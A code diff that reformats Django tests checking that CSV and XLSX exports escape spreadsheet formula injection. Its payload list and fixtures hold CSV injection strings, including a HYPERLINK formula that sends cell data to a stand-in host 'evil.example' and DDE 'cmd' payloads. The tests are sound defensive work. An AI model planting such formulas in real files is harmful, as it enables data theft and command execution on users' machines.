@@ -16,8 +16,14 @@ from projects.models import Project
 from renovation_portal.exports import table_response
 
 # Each character OWASP names, in a payload that a spreadsheet would run.
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "=SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def csv_rows(response) -> list[list[str]]:
@@ -52,17 +58,26 @@ def test_formula_like_text_is_escaped_in_csv_and_plain_text_in_xlsx_while_number
 def hostile(tree):
     """A compound address, a finding, a location and a contractor name that are all formulas."""
     compound = tree["compound_a"]
-    compound.address = "=HYPERLINK(\"http://evil.example\",\"地址\")"
+    compound.address = '=HYPERLINK("http://evil.example","地址")'
     compound.save(update_fields=["address"])
     tree["company_a"].name = "=SUM(1+9)*cmd"
     tree["company_a"].save(update_fields=["name"])
     project = Project.objects.get(compound=compound)
     template = ChecklistTemplate.objects.create(name="表", tier=2)
-    inspection = Inspection.objects.create(project=project, tier=2, template=template, status="filed",
-                                           planned_date=timezone.localdate())
+    inspection = Inspection.objects.create(
+        project=project, tier=2, template=template, status="filed", planned_date=timezone.localdate()
+    )
     RectificationIssue.objects.create(
-        inspection=inspection, project=project, contractor=project.contractor, kind="road", description="-1+cmd",
-        location="+1号楼", severity="minor", tier=2, deadline=timezone.localdate() + timedelta(days=5))
+        inspection=inspection,
+        project=project,
+        contractor=project.contractor,
+        kind="road",
+        description="-1+cmd",
+        location="+1号楼",
+        severity="minor",
+        tier=2,
+        deadline=timezone.localdate() + timedelta(days=5),
+    )
     return compound
 
 
@@ -71,7 +86,7 @@ def test_compound_list_export_escapes_a_formula_address(hostile, actors, client)
     url = reverse("communities:compound-list")
     lines = csv_rows(client.get(url, {"export": "csv"}))
     column = lines[0].index("地址")
-    assert "'=HYPERLINK(\"http://evil.example\",\"地址\")" in [line[column] for line in lines[1:]]
+    assert '\'=HYPERLINK("http://evil.example","地址")' in [line[column] for line in lines[1:]]
     cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
     address = [row[column] for row in cells[1:] if row[column].value and row[column].value.startswith("=")]
     assert len(address) == 1 and address[0].data_type == "s"
